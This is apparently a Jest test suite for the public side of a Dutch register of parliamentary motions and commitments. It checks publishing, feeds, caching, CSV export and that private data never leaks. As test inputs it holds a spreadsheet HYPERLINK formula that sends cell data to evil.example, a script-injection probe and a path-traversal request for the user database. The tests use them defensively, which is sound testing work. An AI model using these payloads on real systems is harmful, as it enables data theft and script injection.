import { DOMParser } from '@xmldom/xmldom';
import { GebruikersStore } from '@register/access';
import { OpenbaarCache } from '@register/application';
import { DataSource } from 'typeorm';
import { gunzipSync } from 'node:zlib';
import { TestApp, motie, startTestApp, toezegging } from './support/app';

const BASIS = 'https://open.example.org';

/** Everything the register holds that must never be published: each value unique, so a hit means a leak. */
const PRIVE = {
  behandelaarNaam: 'Gerrit Geheimhouder',
  behandelaarEmail: 'gerrit.geheimhouder@example.org',
  behandelaarDirectie: 'Directie Binnenwerk Zeven',
  behandelaarAfdeling: 'Afdeling Achterkamer Negen',
  tweedeBehandelaarNaam: 'Truus Toegewezen',
  tweedeBehandelaarEmail: 'truus.toegewezen@example.org',
  toewijzingReden: 'Portefeuillewissel wegens ziekteverlof Gerrit',
  correctieReden: 'Tikfout in de titel hersteld na telefoontje van de griffie',
  oudeTitel: 'Motie Boswijk over schadeverhaal OUDE SPELLING',
  termijnReden: 'Uitstel omdat de beleidsmedewerker met vakantie is',
  overdrachtReden: 'Interne herverdeling besproken in het DT-overleg',
  gebruikerNaam: 'klerk-verborgen',
  gebruikerEmail: 'klerk.verborgen@example.org',
  conceptTitel: 'Tweede halfjaarbericht politie 2025 CONCEPTVERSIE',
  conceptTekst: 'Deze concepttekst over de bodycams mag nog niet naar buiten',
  /** The motie's date as first registered, corrected later: the old value is the correction's. */
  oudeDatum: '2025-05-19',
  oudeDatumTekst: '19 mei 2025',
};

/**
 * The public side (issue 20) over HTTP: off unless OPENBAAR=aan; the register, an item, the reports
 * and the feed without sign-in; stable addresses; ETags; CSV and dumps; and a search of every public
 * answer for every private value the register holds.
 */
describe('openbaar register', () => {
  let t: TestApp;
  let klerkToken: string;
  const id: Record<string, string> = {};
  let verzondenId: string;
  let conceptId: string;
  const alsKlerk = () => t.as('anoniem').set('Authorization', `Bearer ${klerkToken}`);
  const publiek = () => t.as('anoniem');
  const zichtbaar = (positie: string) => t.http.get(`/api/items?perPagina=1&minimalePositie=${positie}`).expect(200);
  const tekst = (pad: string) =>
    publiek()
      .get(pad)
      .buffer(true)
      .parse((res, cb) => {
        const delen: Buffer[] = [];
        res.on('data', (c: Buffer) => delen.push(c));
        res.on('end', () => cb(null, Buffer.concat(delen)));
      });

  beforeAll(async () => {
    t = await startTestApp({ OPENBAAR: 'aan', OPENBAAR_URL: BASIS, OPENBAAR_BESTANDEN_PER_MINUUT: '1000', TK_MINISTERIE: 'Justitie en Veiligheid' });
    klerkToken = t.app.get(GebruikersStore).voegToe(PRIVE.gebruikerNaam, 'griffier', { email: PRIVE.gebruikerEmail });
    const stuur = async (pad: string, body: object, status = 200) => {
      const res = await alsKlerk().post(pad).send(body);
      if (res.status !== status) throw new Error(`${pad}: ${res.status} ${JSON.stringify(res.body)}`);
      await zichtbaar(res.body.positie);
      return res.body;
    };
    const behandelaar = { naam: PRIVE.behandelaarNaam, email: PRIVE.behandelaarEmail, directie: PRIVE.behandelaarDirectie, afdeling: PRIVE.behandelaarAfdeling };
    id.motie = (await stuur('/api/moties', motie({ titel: PRIVE.oudeTitel, datum: '2025-05-19', behandelaar, termijn: { omschrijving: 'voor de zomer van 2025', datum: '2025-07-01' } }), 201)).itemId;
    await stuur(`/api/items/${id.motie}/correcties`, { correcties: { titel: 'Motie van het lid Boswijk over het verhalen van schade op relschoppers', datum: '2025-05-20' }, reden: PRIVE.correctieReden });
    await stuur(`/api/items/${id.motie}/termijn`, { datum: '2025-06-10', termijn: { omschrijving: 'voor het einde van 2025', datum: '2025-12-31' }, reden: PRIVE.termijnReden });
    await stuur(`/api/items/${id.motie}/behandelaar`, { datum: '2025-06-11', behandelaar: { naam: PRIVE.tweedeBehandelaarNaam, email: PRIVE.tweedeBehandelaarEmail, directie: PRIVE.behandelaarDirectie }, reden: PRIVE.toewijzingReden });
    await stuur(`/api/items/${id.motie}/voortgang`, { datum: '2025-06-15', tekst: 'Het WODC onderzoekt de juridische belemmeringen; het rapport volgt in het najaar.' });
    await stuur(`/api/items/${id.motie}/afdoening`, { datum: '2025-07-02', wijze: { soort: 'kamerstuk', referentie: 'Kamerstukken II 2024/25, 29628, nr. 1250' }, toelichting: 'Met de brief over schadeverhaal is aan de motie voldaan.' });

    id.toezegging = (await stuur('/api/toezeggingen', toezegging({ behandelaar }), 201)).itemId;
    await stuur(`/api/items/${id.toezegging}/overdracht`, { datum: '2025-01-20', naar: { bewindspersoon: 'staatssecretaris van Justitie en Veiligheid', ministerie: 'JenV' }, reden: PRIVE.overdrachtReden });

    id.intern = (await stuur('/api/toezeggingen', toezegging({ nummer: undefined, titel: '=HYPERLINK("https://evil.example/?x="&A1,"klik") <script>alert(1)</script>', termijn: { omschrijving: 'eind 2024', datum: '2024-12-31' } }), 201)).itemId;
    id.vervallen = (await stuur('/api/moties', motie({ nummer: '35925-VI-96', vergaderjaar: '2021/22', titel: 'Motie over het vervallen voorbeeld' }), 201)).itemId;
    await stuur(`/api/items/${id.vervallen}/verval`, { datum: '2025-08-01', reden: 'De motie is achterhaald door de nieuwe wet.' });

    const verzonden = await stuur('/api/halfjaarberichten', { jaar: 2025, helft: 1, titel: 'Eerste halfjaarbericht politie 2025', peildatum: '2025-06-01', secties: ['Politie'] }, 201);
    verzondenId = verzonden.berichtId;
    await stuur(`/api/halfjaarberichten/${verzondenId}/items`, { itemId: id.toezegging, sectie: 'Politie', tekst: 'Het aantal agenten met taakaccent ME staat in de bijlage bij deze brief.', status: 'afgedaan' });
    await stuur(`/api/halfjaarberichten/${verzondenId}/items`, { itemId: id.intern, sectie: 'Politie', tekst: 'De inventarisatie loopt; de Kamer hoort in het volgende halfjaarbericht meer.', status: 'in-behandeling' });
    await stuur(`/api/halfjaarberichten/${verzondenId}/verzending`, { datum: '2025-06-20', kenmerk: '6301234' });
    await stuur(`/api/halfjaarberichten/${verzondenId}/kamerstuk`, { kamerstuk: '29628-1260' });

    const concept = await stuur('/api/halfjaarberichten', { jaar: 2025, helft: 2, titel: PRIVE.conceptTitel, peildatum: '2025-12-01', secties: ['Politie'] }, 201);
    conceptId = concept.berichtId;
    await stuur(`/api/halfjaarberichten/${conceptId}/items`, { itemId: id.intern, sectie: 'Politie', tekst: PRIVE.conceptTekst, status: 'in-behandeling' });

    // The report's afdoening of the toezegging comes from its reactor: wait until the register has it.
    for (let i = 0; i < 100; i++) {
      const item = await t.http.get(`/api/items/${id.toezegging}`).expect(200);
      if (item.body.status === 'Afgedaan') break;
      await new Promise((r) => setTimeout(r, 100));
    }
  });

  afterAll(async () => {
    await t.close();
  });

  it('is off unless OPENBAAR=aan: its addresses do not exist', async () => {
    const uit = await startTestApp();
    try {
      for (const pad of ['/openbaar/', '/openbaar/api/v1/items', '/openbaar/feed.atom', '/openbaar/register.csv']) {
        const res = await uit.as('anoniem').get(pad).set('Accept', 'text/html');
        expect({ pad, status: res.status }).toEqual({ pad, status: 404 });
        // Not the web app's page either: the single-page app's fallback leaves /openbaar alone.
        expect(res.text).not.toContain('<div id="root">');
      }
    } finally {
      await uit.close();
    }
  });

  it('shows the register without signing in, filtered by a GET form, newest first', async () => {
    const res = await publiek().get('/openbaar/').expect(200);
    expect(res.headers['content-type']).toContain('text/html');
    expect(res.text).toContain('<html lang="nl">');
    expect(res.text).toContain('Motie van het lid Boswijk over het verhalen van schade op relschoppers');
    expect(res.text).toContain('Ministerie van Justitie en Veiligheid');
    expect(res.text).toMatch(/<form class="filters" method="get"/);
    // Escaped, never markup.
    expect(res.text).not.toContain('<script>alert(1)</script>');
    expect(res.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');

    const moties = await publiek().get('/openbaar/?soort=motie&status=Afgedaan').expect(200);
    expect(moties.text).toContain('29628-1230');
    expect(moties.text).not.toContain('35925-VI-96');
    expect(moties.text).toContain('1 item');

    const json = await publiek().get('/openbaar/api/v1/items?status=open').expect(200);
    expect(json.body).toMatchObject({ schemaVersie: '1', totaal: 1, items: [{ id: id.intern, nummerBron: 'intern', status: 'InBehandeling', achterstallig: true }] });
    expect(json.body.items[0].url).toBe(`${BASIS}/openbaar/items/${id.intern}`);
  });

  it('refuses a filter on behandelaar or directie in the open data, and an invalid value with a Dutch message', async () => {
    await publiek().get(`/openbaar/api/v1/items?behandelaar=${encodeURIComponent(PRIVE.behandelaarEmail)}`).expect(400);
    await publiek().get(`/openbaar/api/v1/items?directie=x`).expect(400);
    const fout = await publiek().get('/openbaar/api/v1/items?pagina=nul').expect(400);
    expect(JSON.stringify(fout.body)).toContain('moet een geheel getal zijn');
    // The page ignores what it does not know (a campaign tag) and explains what it cannot read.
    await publiek().get('/openbaar/?utm_source=nieuwsbrief&behandelaar=x').expect(200);
    const pagina = await publiek().get('/openbaar/?status=klaar').expect(400);
    expect(pagina.headers['content-type']).toContain('text/html');
    expect(pagina.text).toContain('Deze zoekopdracht klopt niet');
  });

  it('gives each item one page, by its Kamer number, with status, afdoening, voortgang, reports and history', async () => {
    const res = await publiek().get('/openbaar/items/29628-1230').expect(200);
    expect(res.text).toContain('Afgedaan');
    expect(res.text).toContain('href="https://zoek.officielebekendmakingen.nl/kst-29628-1250.html"');
    expect(res.text).toContain('Met de brief over schadeverhaal is aan de motie voldaan.');
    expect(res.text).toContain('Het WODC onderzoekt de juridische belemmeringen');
    expect(res.text).toContain('Termijn gewijzigd naar &quot;voor het einde van 2025&quot;');
    expect(res.text).toContain('2 juli 2025');
    // The registration in the history carries the corrected date, not the first one.
    const json = await publiek().get('/openbaar/api/v1/items/29628-1230').expect(200);
    expect(json.body.historie[0]).toMatchObject({ soort: 'geregistreerd', datum: '2025-05-20' });
    expect(json.body.datum).toBe('2025-05-20');
    expect(res.text).toContain(`<link rel="canonical" href="${BASIS}/openbaar/items/29628-1230">`);
    // By its id, or in lower case: sent on to the one address.
    const viaId = await publiek().get(`/openbaar/items/${id.motie}`).expect(301);
    expect(viaId.headers.location).toBe('/openbaar/items/29628-1230');
    expect((await publiek().get('/openbaar/items/tz202412-156').expect(301)).headers.location).toBe('/openbaar/items/TZ202412-156');

    const toezegging = await publiek().get('/openbaar/api/v1/items/TZ202412-156').expect(200);
    expect(toezegging.body).toMatchObject({
      schemaVersie: '1',
      status: 'Afgedaan',
      bewindspersoon: 'staatssecretaris van Justitie en Veiligheid',
      gerapporteerd: [{ berichtId: verzondenId, bericht: 'Eerste halfjaarbericht politie 2025', status: 'afgedaan', tekst: 'Het aantal agenten met taakaccent ME staat in de bijlage bij deze brief.' }],
    });
    expect(toezegging.body.historie.map((h: { soort: string }) => h.soort)).toEqual(['geregistreerd', 'overgedragen', 'afgedaan']);

    const vervallen = await publiek().get('/openbaar/api/v1/items/35925-VI-96').expect(200);
    expect(vervallen.body).toMatchObject({ status: 'Vervallen', vervallenReden: 'De motie is achterhaald door de nieuwe wet.', kamerstukUrl: 'https://zoek.officielebekendmakingen.nl/kst-35925-VI-96.html' });

    const onbekend = await publiek().get('/openbaar/items/29628-9999').expect(404);
    expect(onbekend.text).toContain('Dit item bestaat niet');
  });

  it('publishes a halfjaarbericht once it is sent, as it was sent; a draft is not there', async () => {
    const lijst = await publiek().get('/openbaar/api/v1/halfjaarberichten').expect(200);
    expect(lijst.body.berichten).toEqual([expect.objectContaining({ berichtId: verzondenId, verzondenOp: '2025-06-20', kenmerk: '6301234', kamerstuk: '29628-1260', kamerstukUrl: 'https://zoek.officielebekendmakingen.nl/kst-29628-1260.html' })]);
    const pagina = await publiek().get(`/openbaar/halfjaarberichten/${verzondenId}`).expect(200);
    expect(pagina.text).toContain('Het aantal agenten met taakaccent ME staat in de bijlage bij deze brief.');
    expect(pagina.text).toContain('1 afgedaan, 0 deels afgedaan, 1 in behandeling');
    await publiek().get(`/openbaar/halfjaarberichten/${conceptId}`).expect(404);
    await publiek().get(`/openbaar/api/v1/halfjaarberichten/${conceptId}`).expect(404);
  });

  it('offers an Atom feed of new items, status changes and sent reports, each entry with a permanent id', async () => {
    const res = await tekst('/openbaar/feed.atom').expect(200);
    expect(res.headers['content-type']).toContain('application/atom+xml');
    const doc = new DOMParser().parseFromString((res.body as Buffer).toString('utf8'), 'application/xml');
    const feed = doc.documentElement;
    expect(feed.namespaceURI).toBe('http://www.w3.org/2005/Atom');
    const entries = Array.from(doc.getElementsByTagName('entry'));
    const titels = entries.map((e) => e.getElementsByTagName('title')[0].textContent);
    expect(titels).toEqual(expect.arrayContaining(['29628-1230: Afgedaan', '29628-1230: Nieuw in het register', 'Eerste halfjaarbericht politie 2025 verzonden', 'TZ202412-156: Overgedragen', '35925-VI-96: Vervallen']));
    for (const e of entries) {
      expect(e.getElementsByTagName('id')[0].textContent).toMatch(/^urn:uuid:[0-9a-f-]{36}$/);
      expect(e.getElementsByTagName('link')[0].getAttribute('href')).toMatch(new RegExp(`^${BASIS}/openbaar/(items|halfjaarberichten)/`));
      expect(Date.parse(e.getElementsByTagName('updated')[0].textContent ?? '')).not.toBeNaN();
    }
    expect(titels.some((x) => x?.includes(PRIVE.conceptTitel))).toBe(false);
  });

  it('answers 304 to a matching ETag, and to If-Modified-Since for a day\'s dump', async () => {
    for (const pad of ['/openbaar/', '/openbaar/items/29628-1230', '/openbaar/api/v1/items', '/openbaar/feed.atom', `/openbaar/halfjaarberichten/${verzondenId}`]) {
      const eerste = await publiek().get(pad).expect(200);
      expect(eerste.headers.etag).toBeDefined();
      expect(eerste.headers['cache-control']).toContain('public');
      await publiek().get(pad).set('If-None-Match', eerste.headers.etag).expect(304);
    }
    const vandaag = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Amsterdam' }).format(new Date());
    const dump = await tekst(`/openbaar/dumps/register-${vandaag}.json.gz`).expect(200);
    expect(dump.headers['last-modified']).toBeDefined();
    await publiek().get(`/openbaar/dumps/register-${vandaag}.json.gz`).set('If-Modified-Since', dump.headers['last-modified']).expect(304);
  });

  it('moves nothing public when only private data changes: a behandelaar assigned leaves the item, its ETag and its dates as they were', async () => {
    const cache = t.app.get(OpenbaarCache);
    cache.leeg();
    const voor = await publiek().get('/openbaar/api/v1/items/TZ202412-156').expect(200);
    const pagina = await publiek().get('/openbaar/items/TZ202412-156').expect(200);
    const res = await alsKlerk().post(`/api/items/${id.toezegging}/behandelaar`).send({ datum: '2025-07-01', behandelaar: { naam: 'Nog Iemand', email: 'nog.iemand@example.org', directie: 'Directie X' }, reden: 'x' }).expect(200);
    await zichtbaar(res.body.positie);
    cache.leeg();
    const na = await publiek().get('/openbaar/api/v1/items/TZ202412-156').expect(200);
    expect(na.body).toEqual(voor.body);
    expect(na.headers.etag).toBe(voor.headers.etag);
    await publiek().get('/openbaar/items/TZ202412-156').set('If-None-Match', pagina.headers.etag).expect(304);
  });

  it('answers 503 while the register is rebuilt anywhere, rather than a short register that looks whole', async () => {
    const ds = t.app.get(DataSource);
    await ds.query(`INSERT INTO projection_checkpoints (name, version, position, updated_at) VALUES ('register#herbouw', 1, '-1', '2026-01-01T00:00:00.000Z')`);
    try {
      t.app.get(OpenbaarCache).leeg();
      for (const pad of ['/openbaar/', '/openbaar/items/29628-1230', '/openbaar/api/v1/items', '/openbaar/api/v1/items/29628-1230', '/openbaar/register.csv', '/openbaar/feed.atom', `/openbaar/api/v1/halfjaarberichten/${verzondenId}`]) {
        const res = await publiek().get(pad);
        expect({ pad, status: res.status }).toEqual({ pad, status: 503 });
        expect(JSON.stringify(res.body)).toContain('opnieuw opgebouwd');
      }
    } finally {
      await ds.query(`DELETE FROM projection_checkpoints WHERE name = 'register#herbouw'`);
      t.app.get(OpenbaarCache).leeg();
    }
    await publiek().get('/openbaar/register.csv').expect(200);
  });

  it('gives a CSV whose cells cannot start a formula, and a daily dump of everything', async () => {
    const csv = await tekst('/openbaar/register.csv').expect(200);
    const inhoud = (csv.body as Buffer).toString('utf8');
    expect(inhoud.charCodeAt(0)).toBe(0xfeff);
    expect(inhoud).toContain(`"'=HYPERLINK(`);
    expect(inhoud).toContain(`${BASIS}/openbaar/items/29628-1230`);
    expect(inhoud.trim().split('\n')).toHaveLength(1 + 4);

    const dumps = await publiek().get('/openbaar/dumps').expect(200);
    const vandaag = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Amsterdam' }).format(new Date());
    const dump = await tekst(`/openbaar/dumps/register-${vandaag}.json.gz`).expect(200);
    const gegevens = JSON.parse(gunzipSync(dump.body as Buffer).toString('utf8'));
    expect(gegevens).toMatchObject({ schemaVersie: '1', datum: vandaag });
    expect(gegevens.items).toHaveLength(4);
    expect(gegevens.halfjaarberichten.map((b: { berichtId: string }) => b.berichtId)).toEqual([verzondenId]);
    expect(dumps.body.schemaVersie).toBe('1');
    await publiek().get('/openbaar/dumps/register-2020-01-01.json.gz').expect(404);
    await publiek().get('/openbaar/dumps/..%2Fgebruikers.sqlite').expect(404);
  });

  it('never publishes a behandelaar, a reason kept for the record, a user, a token or a draft: every public answer searched', async () => {
    const antwoorden = new Map<string, string>();
    const vandaag = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Amsterdam' }).format(new Date());
    const wachtrij = [`/openbaar/dumps/register-${vandaag}.json.gz`, '/openbaar/', '/openbaar/?status=open', '/openbaar/wijzigingen', '/openbaar/open-data', '/openbaar/halfjaarberichten', '/openbaar/feed.atom', '/openbaar/register.csv', '/openbaar/dumps', '/openbaar/api/v1/items?perPagina=100', '/openbaar/api/v1/halfjaarberichten', '/openbaar/api/v1/wijzigingen?aantal=500'];
    for (const itemId of Object.values(id)) wachtrij.push(`/openbaar/items/${itemId}`, `/openbaar/api/v1/items/${itemId}`);
    wachtrij.push(`/openbaar/api/v1/halfjaarberichten/${verzondenId}`);
    while (wachtrij.length && antwoorden.size < 300) {
      const pad = wachtrij.shift()!;
      if (antwoorden.has(pad)) continue;
      const res = await tekst(pad);
      expect({ pad, status: res.status }).toEqual({ pad, status: expect.any(Number) });
      if (res.status === 301) {
        wachtrij.push(res.headers.location);
        continue;
      }
      expect({ pad, status: res.status }).toEqual({ pad, status: 200 });
      const body = res.body as Buffer;
      const inhoud = pad.endsWith('.json.gz') ? gunzipSync(body).toString('utf8') : body.toString('utf8');
      antwoorden.set(pad, `${JSON.stringify(res.headers)}\n${inhoud}`);
      // Every link to the public site, relative or absolute, and every dump in the list.
      for (const m of inhoud.matchAll(/(?:href="|")((?:https:\/\/open\.example\.org)?\/openbaar\/[^"#]*)"/g)) {
        const link = m[1].replace(BASIS, '').replace(/&amp;/g, '&');
        if (!antwoorden.has(link) && !link.includes('{')) wachtrij.push(link);
      }
    }
    expect(antwoorden.size).toBeGreaterThan(20);
    expect([...antwoorden.keys()].some((p) => p.endsWith('.json.gz'))).toBe(true);
    expect([...antwoorden.keys()].some((p) => p.startsWith('/openbaar/halfjaarberichten/'))).toBe(true);

    const geheimen = { ...PRIVE, klerkToken, ...Object.fromEntries(['griffier', 'auditor', 'liaison', 'beheerder'].map((r) => [`token-${r}`, t.tokens[r as keyof typeof t.tokens]])) };
    const lekken: string[] = [];
    for (const [pad, inhoud] of antwoorden) {
      const klein = inhoud.toLowerCase();
      for (const [veld, waarde] of Object.entries(geheimen)) {
        if (waarde && klein.includes(String(waarde).toLowerCase())) lekken.push(`${veld} in ${pad}`);
        // Escaped in HTML or XML, a value reads differently: look for that too.
        if (waarde && klein.includes(String(waarde).toLowerCase().replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&#39;'))) lekken.push(`${veld} (geëscapet) in ${pad}`);
      }
      // The audit trail's actors: the test users' names are the actors of every event above.
      for (const naam of ['test-griffier', PRIVE.gebruikerNaam]) if (klein.includes(naam)) lekken.push(`actor ${naam} in ${pad}`);
      // The first date of the corrected motie, in any form a page or a feed would write it.
      for (const oud of [PRIVE.oudeDatum, PRIVE.oudeDatumTekst]) if (klein.includes(oud)) lekken.push(`oude datum ${oud} in ${pad}`);
    }
    expect([...new Set(lekken)]).toEqual([]);
  });
});

describe('openbaar register: rate limit per client address', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ OPENBAAR: 'aan', OPENBAAR_PER_MINUUT: '5', OPENBAAR_BESTANDEN_PER_MINUUT: '3' });
  });

  afterAll(async () => {
    await t.close();
  });

  it('answers 429 with Retry-After past the limit, while the clerks go on working', async () => {
    for (let i = 0; i < 5; i++) await t.as('anoniem').get('/openbaar/api/v1/items').expect(200);
    const res = await t.as('anoniem').get('/openbaar/').expect(429);
    expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
    expect(JSON.stringify(res.body)).toContain('Te veel verzoeken');
    // Files are counted apart, with a limit of their own (each costs far more than a page).
    for (let i = 0; i < 3; i++) await t.as('anoniem').get('/openbaar/register.csv').expect(200);
    const bestand = await t.as('anoniem').get('/openbaar/register.csv').expect(429);
    expect(Number(bestand.headers['retry-after'])).toBeGreaterThan(0);
    await t.http.post('/api/moties').send(motie({ nummer: '29628-1500' })).expect(201);
    await t.http.get('/api/items').expect(200);
  });
});
